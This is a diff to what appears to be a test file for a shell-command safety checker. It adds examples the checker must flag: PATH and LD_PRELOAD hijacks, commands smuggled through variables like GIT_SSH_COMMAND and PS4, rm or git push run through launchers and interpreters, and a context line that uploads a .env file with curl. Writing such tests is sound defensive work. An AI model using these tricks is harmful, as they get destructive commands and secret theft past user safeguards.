@@ -180,6 +180,35 @@ curl -F f=@.env h
 git show HEAD:.env
 date -f .env
 cat /proc/self/cwd/.env
+PATH=/tmp/evil ls
+PATH=/tmp/evil; ls
+export PATH=/tmp/evil; ls
+declare -x LD_PRELOAD=/tmp/x.so
+LD_PRELOAD=/tmp/x.so ls
+env LD_PRELOAD=/tmp/x.so ls
+GIT_SSH_COMMAND='rm -rf x' git fetch
+GIT_EXTERNAL_DIFF=evil git diff
+PAGER='rm x' git log
+BASH_ENV=/tmp/x ls
+ENV=x sh y
+PROMPT_COMMAND='rm x'; ls
+PS4='$(rm x)'; set -x; ls
+CC='rm x' make
+path=(/tmp/evil); ls
+faketime 1 /bin/rm x
+npx /bin/rm x
+uv run /bin/rm x
+/lib64/ld-linux-x86-64.so.2 /bin/rm x
+npx --call='rm x'
+npx --call='/bin/rm x'
+coreutils --coreutils-prog=rm x
+ed x <<< '!rm y'
+python3 -c 'import os; os.system("rm -rf x")'
+python3 -c 'import subprocess; subprocess.run(["rm", "-rf", "x"])'
+perl -e 'exec "/bin/rm x"'
+node -e "require('child_process').execSync('git push')"
+echo 'system("rm x")' | ruby
+sqlite3 x '.shell rm y'
 """.strip("\n").split("\n")
 # And here it cannot.
 FREE = r"""
@@ -197,6 +226,14 @@ sort -u x
 awk '{print $1, $NF}' x
 make -j4 all V=1
 timeout 5 make all
+GIT_PAGER=cat git log
+GIT_AUTHOR_DATE=x git log
+NODE_ENV=test FOO=bar npm test
+PYTHONPATH=src python3 -m pytest
+python3 -c 'print("x")'
+npx eslint src
+gh pr create --title fix --body "about rm"
+python3 - <<< 'print(1)'
 """.strip("\n").split("\n")
 LAUNCHERS = (
     "prlimit",
